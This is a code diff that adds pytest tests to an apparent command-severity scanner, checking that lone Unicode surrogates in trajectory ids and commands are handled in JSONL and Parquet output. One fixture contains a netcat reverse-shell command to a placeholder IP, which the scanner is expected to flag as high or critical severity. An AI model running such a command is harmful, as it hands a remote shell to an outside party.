@@ -140,3 +140,29 @@ def test_labelled_trajectories_corpus() -> None:
             assert not medium, (tid, medium)
         else:
             assert medium, tid
+
+
+@pytest.mark.parametrize("to_file", [False, True])
+def test_lone_surrogates_in_ids_and_commands_do_not_stop_the_run(tmp_path: Path, to_file: bool) -> None:
+    p = tmp_path / "s.jsonl"
+    # JSON allows escaped lone surrogates; Python decodes them to unencodable strings
+    p.write_text('{"id": "a\\ud800", "command": "ls"}\n'
+                 '{"id": "b\\udfff", "command": "nc -e /bin/sh 203.0.113.9 4444 # \\ud800"}\n')
+    out = tmp_path / "v.jsonl"
+    r = _run(str(p), "--format", "jsonl", *(["-o", str(out)] if to_file else []))
+    assert r.returncode == 0, r.stderr
+    text = out.read_text(encoding="utf-8") if to_file else r.stdout
+    rows = [json.loads(x) for x in text.splitlines()]
+    assert [x["trajectory_id"] for x in rows] == ["a\ud800", "b\udfff"]
+    assert rows[0]["max_severity"] == "none" and rows[1]["max_severity"] in ("high", "critical")
+
+
+def test_lone_surrogates_in_parquet_output(tmp_path: Path) -> None:
+    p = tmp_path / "s.jsonl"
+    p.write_text('{"id": "a\\ud800", "command": "ls"}\n')
+    out = tmp_path / "v.parquet"
+    r = _run(str(p), "--format", "parquet", "-o", str(out))
+    assert r.returncode == 0, r.stderr
+    import duckdb
+
+    assert duckdb.sql(f"SELECT trajectory_id FROM '{out}'").fetchall() == [("a?",)]
